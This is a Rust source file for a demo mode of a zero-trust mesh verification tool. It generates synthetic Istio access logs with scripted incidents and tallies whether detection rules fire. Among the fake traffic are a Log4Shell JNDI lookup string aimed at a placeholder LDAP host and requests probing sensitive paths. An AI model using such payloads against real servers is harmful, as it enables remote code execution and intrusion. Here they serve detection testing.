//! `verity demo`: Verity on its embedded defaults, fed by a synthetic mesh through its own OTLP
//! endpoint, with scripted incidents, alerts shown as they arrive, and a summary.
//!
//! Event time runs [`SPEED`] times faster than the clock so that minute windows and ten-minute
//! silences happen within the demo. The mesh: six namespaces of four services each, calling
//! each other over mTLS (Istio sidecar JSON access logs and ztunnel logs). The incidents, in
//! order: plaintext traffic into `pay`, RBAC probing by `shop/cart`, a revocation of that
//! identity, traffic
//! from it that still succeeds, a telemetry gap from `inventory`, and Log4Shell attempts. The
//! revocation goes through Verity's own control loop: the probing rule asks for it, the
//! guardrails admit it, the ext_authz deny list enforces it, and the verification watches the
//! traffic; the synthetic mesh does not consult the deny list, so the verification fires.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use opentelemetry_proto::tonic::collector::logs::v1::ExportLogsServiceRequest;
use opentelemetry_proto::tonic::collector::logs::v1::logs_service_client::LogsServiceClient;
use opentelemetry_proto::tonic::common::v1::{AnyValue, any_value};
use opentelemetry_proto::tonic::logs::v1::{LogRecord, ResourceLogs, ScopeLogs};
use verity_model::time::format_rfc3339_ns;

use crate::config;
use crate::wiring::Handles;

/// Event-time seconds per wall-clock second.
pub const SPEED: i64 = 120;
const NAMESPACES: [&str; 6] = ["shop", "pay", "inventory", "users", "search", "edge"];
const SERVICES: [&str; 4] = ["api", "worker", "db-proxy", "cache"];
const COMPROMISED: &str = "spiffe://cluster.local/ns/shop/sa/cart";

#[derive(Debug, thiserror::Error)]
pub enum DemoError {
    #[error("configuration: {0}")]
    Config(String),
    #[error("{0}")]
    Io(#[from] std::io::Error),
    #[error("Verity failed: {0}")]
    App(String),
    #[error("cannot reach Verity's OTLP endpoint: {0}")]
    Connect(String),
}

pub struct DemoOptions {
    pub seconds: u64,
    pub color: bool,
}

/// One scripted incident and the rule expected to catch it.
struct Incident {
    what: &'static str,
    rule: &'static str,
}

const INCIDENTS: &[Incident] = &[
    Incident {
        what: "plaintext traffic into namespace pay",
        rule: "zt-plaintext-to-mesh",
    },
    Incident {
        what: "RBAC probing by shop/cart",
        rule: "zt-rbac-denial-burst",
    },
    Incident {
        what: "revoked shop/cart still succeeds (not enforced)",
        rule: "zt-revoked-identity-succeeds",
    },
    Incident {
        what: "telemetry gap from namespace inventory",
        rule: "zt-telemetry-stopped",
    },
    Incident {
        what: "Log4Shell attempts at the edge",
        rule: "zt-log4shell",
    },
];

/// Small deterministic generator: the same demo every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[(self.next() % v.len() as u64) as usize]
    }
}

/// One request as a sidecar's JSON access log records it.
struct Req<'a> {
    src: &'a str,
    dst_ns: &'a str,
    dst_svc: &'a str,
    status: u16,
    details: &'a str,
    path: &'a str,
    ua: &'a str,
    peer_ip: &'a str,
}

impl Default for Req<'_> {
    fn default() -> Self {
        Self {
            src: "",
            dst_ns: "pay",
            dst_svc: "api",
            status: 200,
            details: "via_upstream",
            path: "/api/v1/items",
            ua: "Go-http-client/1.1",
            peer_ip: "10.1.0.7",
        }
    }
}

fn sidecar_line(t_ns: i64, r: &Req<'_>) -> String {
    let san = if r.src.is_empty() {
        String::new()
    } else {
        format!(
            r#","downstream_peer_uri_san":"{}","connection_security_policy":"mutual_tls""#,
            r.src
        )
    };
    format!(
        r#"{{"start_time":"{}","method":"GET","path":"{}","protocol":"HTTP/1.1","response_code":{},"response_code_details":"{}","upstream_cluster":"inbound|8080||","downstream_remote_address":"{}:40000","user_agent":"{}","requested_server_name":"outbound_.8080_._.{svc}.{ns}.svc.cluster.local","authority":"{svc}.{ns}:8080"{san}}}"#,
        format_rfc3339_ns(t_ns),
        r.path,
        r.status,
        r.details,
        r.peer_ip,
        r.ua,
        svc = r.dst_svc,
        ns = r.dst_ns,
    )
}

fn ztunnel_plaintext(t_ns: i64) -> String {
    format!(
        "{}\tinfo\taccess\tconnection complete\tsrc.addr=10.9.0.6:40001 src.workload=\"legacy-billing\" src.namespace=\"legacy\" dst.addr=10.3.0.9:8080 dst.service=\"api.pay.svc.cluster.local\" dst.workload=\"api-1\" dst.namespace=\"pay\" direction=\"inbound\" bytes_sent=512 bytes_recv=2048 duration=\"4ms\"",
        format_rfc3339_ns(t_ns)
    )
}

/// 32 random bytes, hex.
fn demo_token() -> Result<String, DemoError> {
    use ring::rand::SecureRandom;
    let mut bytes = [0u8; 32];
    ring::rand::SystemRandom::new()
        .fill(&mut bytes)
        .map_err(|_| DemoError::App("no randomness for the demo token".into()))?;
    Ok(bytes.iter().map(|b| format!("{b:02x}")).collect())
}

fn request(lines: Vec<String>) -> ExportLogsServiceRequest {
    let records = lines
        .into_iter()
        .map(|l| LogRecord {
            body: Some(AnyValue {
                value: Some(any_value::Value::StringValue(l)),
            }),
            ..LogRecord::default()
        })
        .collect();
    ExportLogsServiceRequest {
        resource_logs: vec![ResourceLogs {
            scope_logs: vec![ScopeLogs {
                log_records: records,
                ..ScopeLogs::default()
            }],
            ..ResourceLogs::default()
        }],
    }
}

struct Paint(bool);

impl Paint {
    fn sev(&self, s: &str) -> String {
        let code = match s {
            "critical" => "1;97;41",
            "high" => "1;31",
            "medium" => "33",
            "low" => "36",
            _ => "37",
        };
        let label = format!("{:<8}", s.to_uppercase());
        if self.0 {
            format!("\x1b[{code}m{label}\x1b[0m")
        } else {
            label
        }
    }
    fn bold(&self, s: &str) -> String {
        if self.0 {
            format!("\x1b[1m{s}\x1b[0m")
        } else {
            s.to_string()
        }
    }
}

fn read_alerts(path: &std::path::Path) -> Vec<serde_json::Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

/// Runs the demo; returns whether every incident was detected.
pub async fn run(opts: DemoOptions, out: &mut (dyn Write + Send)) -> Result<bool, DemoError> {
    let paint = Paint(opts.color);
    let dir: PathBuf = std::env::temp_dir().join(format!("verity-demo-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let alerts_path = dir.join("alerts.jsonl");
    // The synthetic mesh reports as a collector with a token, as a real one would: its
    // records are verified evidence, so the probing incident can ask for a revocation.
    let token = demo_token()?;
    let token_path = dir.join("collector.token");
    std::fs::write(&token_path, &token)?;
    let d = dir.display();
    let env = [
        (
            "VERITY__OTLP__TOKENS",
            format!(
                "[{{name: demo-collector, secret: {{file: '{}'}}}}]",
                token_path.display()
            ),
        ),
        ("VERITY__OTLP__GRPC__LISTEN", "127.0.0.1:0".to_string()),
        ("VERITY__OTLP__HTTP__LISTEN", "127.0.0.1:0".to_string()),
        ("VERITY__ADMIN__LISTEN", "127.0.0.1:0".to_string()),
        ("VERITY__DEAD_LETTER__PATH", format!("{d}/dead-letter.jsonl")),
        ("VERITY__RULES__STATE_DIR", format!("{d}/state")),
        ("VERITY__SINKS__SPOOL_DIR", format!("{d}/spool")),
        ("VERITY__SINKS__OUTPUTS__STDOUT__ENABLED", "false".to_string()),
        ("VERITY__SINKS__OUTPUTS__FILE__PATH", alerts_path.display().to_string()),
        ("VERITY__SINKS__OUTPUTS__FILE__BATCH", "{max_wait_ms: 20}".to_string()),
        // Revocations are enforced through the ext_authz deny list; the synthetic mesh does not
        // consult it, which is exactly what the verification then catches.
        ("VERITY__CONTROL__MODE", "enforce".to_string()),
        ("VERITY__CONTROL__GRACE_SECS", "2".to_string()),
        ("VERITY__CONTROL__STORE_PATH", format!("{d}/revocations.json")),
    ];
    let settings = config::settings(None, env.iter().map(|(k, v)| (k.to_string(), v.clone())))
        .map_err(|e| DemoError::Config(e.iter().map(ToString::to_string).collect::<Vec<_>>().join("; ")))?;
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let (ready_tx, ready_rx) = tokio::sync::oneshot::channel::<Handles>();
    let app = tokio::spawn(crate::wiring::run_with(
        settings,
        async move {
            let _ = stop_rx.await;
        },
        move |h| {
            let _ = ready_tx.send(h);
        },
    ));
    let handles = ready_rx
        .await
        .map_err(|_| DemoError::App("Verity stopped before it was ready".into()))?;
    let grpc = handles
        .bound
        .grpc
        .ok_or_else(|| DemoError::App("no OTLP/gRPC listener".into()))?;
    let mut client = LogsServiceClient::connect(format!("http://{grpc}"))
        .await
        .map_err(|e| DemoError::Connect(e.to_string()))?;

    writeln!(
        out,
        "{}",
        paint.bold("Verity demo: continuous zero-trust verification of a synthetic mesh")
    )?;
    writeln!(
        out,
        "  24 services in 6 namespaces send Istio sidecar and ztunnel access logs to Verity's OTLP endpoint ({grpc})."
    )?;
    writeln!(
        out,
        "  Event time runs {SPEED}x faster than the clock. Alerts appear below as Verity raises them; data in {d}.\n"
    )?;

    let total = Duration::from_secs(opts.seconds.max(10));
    let start = Instant::now();
    let now_ns = verity_collector::normalize::now_ns();
    let sim_start = now_ns - i64::try_from(total.as_nanos()).unwrap_or(0) * SPEED;
    let sim = |elapsed: Duration| sim_start + i64::try_from(elapsed.as_nanos()).unwrap_or(0) * SPEED;
    let mut rng = Rng(0x5eed_1234_abcd_ef01);
    let mut sent = 0u64;
    let mut shown = 0usize;
    let mut revoked_at: Option<Duration> = None;
    let mut ticker = tokio::time::interval(Duration::from_millis(100));
    let mut step = 0i64;
    while start.elapsed() < total {
        ticker.tick().await;
        let elapsed = start.elapsed();
        let f = elapsed.as_secs_f64() / total.as_secs_f64();
        let t = sim(elapsed);
        let mut lines = Vec::new();
        // Normal traffic: every service is called twice per tick over mTLS, except inventory
        // once it goes silent.
        for ns in NAMESPACES {
            if ns == "inventory" && f >= 0.50 {
                continue;
            }
            for svc in SERVICES {
                for k in 0..2 {
                    let caller_ns = rng.pick(&NAMESPACES);
                    let caller_svc = rng.pick(&SERVICES);
                    let src = format!("spiffe://cluster.local/ns/{caller_ns}/sa/{caller_svc}");
                    step += 1;
                    lines.push(sidecar_line(
                        t + step % 1000 * 1_000_000 + k,
                        &Req {
                            src: &src,
                            dst_ns: ns,
                            dst_svc: svc,
                            ..Req::default()
                        },
                    ));
                }
            }
        }
        // The compromised identity makes ordinary calls throughout.
        lines.push(sidecar_line(
            t,
            &Req {
                src: COMPROMISED,
                path: "/api/v1/orders",
                peer_ip: "10.1.0.9",
                ..Req::default()
            },
        ));
        if (0.12..0.18).contains(&f) {
            lines.push(ztunnel_plaintext(t));
        }
        if (0.25..0.30).contains(&f) {
            for p in ["/admin", "/internal/keys", "/debug/pprof", "/actuator/env"] {
                lines.push(sidecar_line(
                    t,
                    &Req {
                        src: COMPROMISED,
                        status: 403,
                        details: "rbac_access_denied_matched_policy[ns[pay]-policy[deny-cart]-rule[0]]",
                        path: p,
                        peer_ip: "10.1.0.9",
                        ..Req::default()
                    },
                ));
            }
        }
        if (0.70..0.76).contains(&f) {
            lines.push(sidecar_line(
                t,
                &Req {
                    dst_ns: "edge",
                    status: 404,
                    path: "/login",
                    ua: "${jndi:ldap://203.0.113.5:1389/Basic/Command}",
                    peer_ip: "203.0.113.5",
                    ..Req::default()
                },
            ));
        }
        sent += lines.len() as u64;
        let mut export = tonic::Request::new(request(lines));
        if let Ok(value) = format!("Bearer {token}").parse() {
            export.metadata_mut().insert("authorization", value);
        }
        if let Err(status) = client.export(export).await {
            writeln!(out, "  (OTLP export refused: {}; retrying next tick)", status.message())?;
        }

        let alerts = read_alerts(&alerts_path);
        for a in alerts.iter().skip(shown) {
            let at = elapsed.as_secs();
            writeln!(
                out,
                "  {:02}:{:02}  {}  {:<30} {}",
                at / 60,
                at % 60,
                paint.sev(a["severity"].as_str().unwrap_or("")),
                a["rule_id"].as_str().unwrap_or(""),
                a["summary"].as_str().unwrap_or("")
            )?;
            if revoked_at.is_none() && a["rule_id"] == "verity-revocation-applied" {
                revoked_at = Some(elapsed);
                writeln!(
                    out,
                    "  {:02}:{:02}  {}  the probing alert asked for a revocation: {} is on the ext_authz deny list;\n                  after a grace period Verity checks live traffic that the mesh enforces it",
                    at / 60,
                    at % 60,
                    paint.bold("RESPOND "),
                    COMPROMISED.trim_start_matches("spiffe://"),
                )?;
            }
        }
        shown = alerts.len();
        out.flush()?;
    }
    let _ = stop_tx.send(());
    match app.await {
        Ok(Ok(())) => {}
        Ok(Err(e)) => return Err(DemoError::App(e.to_string())),
        Err(e) => return Err(DemoError::App(e.to_string())),
    }
    let alerts = read_alerts(&alerts_path);
    for a in alerts.iter().skip(shown) {
        writeln!(
            out,
            "  end    {}  {:<30} {}",
            paint.sev(a["severity"].as_str().unwrap_or("")),
            a["rule_id"].as_str().unwrap_or(""),
            a["summary"].as_str().unwrap_or("")
        )?;
    }
    let mut by_rule: BTreeMap<String, usize> = BTreeMap::new();
    for a in &alerts {
        *by_rule
            .entry(a["rule_id"].as_str().unwrap_or("").to_string())
            .or_default() += 1;
    }
    writeln!(out, "\n{}", paint.bold("Summary"))?;
    writeln!(
        out,
        "  {sent} access-log records in {:.0} s ({:.0}/s), {} alerts",
        start.elapsed().as_secs_f64(),
        sent as f64 / start.elapsed().as_secs_f64(),
        alerts.len()
    )?;
    let mut detected = 0;
    for i in INCIDENTS {
        let n = by_rule.get(i.rule).copied().unwrap_or(0);
        let mark = if n > 0 { "✓" } else { "✗" };
        if n > 0 {
            detected += 1;
        }
        writeln!(
            out,
            "  {mark} {:<50} {} ({n} alert{})",
            i.what,
            i.rule,
            if n == 1 { "" } else { "s" }
        )?;
    }
    match revoked_at {
        Some(at) => writeln!(
            out,
            "  ✓ {:<50} at {:02}:{:02}",
            "revocation of shop/cart (ext_authz deny list)",
            at.as_secs() / 60,
            at.as_secs() % 60
        )?,
        None => writeln!(
            out,
            "  ✗ {:<50} no probing alert to act on",
            "revocation of shop/cart (ext_authz deny list)"
        )?,
    }
    let all = detected == INCIDENTS.len() && revoked_at.is_some();
    if all {
        writeln!(out, "All {} incidents detected.", INCIDENTS.len())?;
    } else {
        writeln!(out, "{detected} of {} incidents detected.", INCIDENTS.len())?;
    }
    writeln!(
        out,
        "Alerts: {}. Next: point Istio at Verity (README, \"Pointing Istio at Verity\") and add SIEM outputs (docs/sinks.md).",
        alerts_path.display()
    )?;
    out.flush()?;
    Ok(all)
}
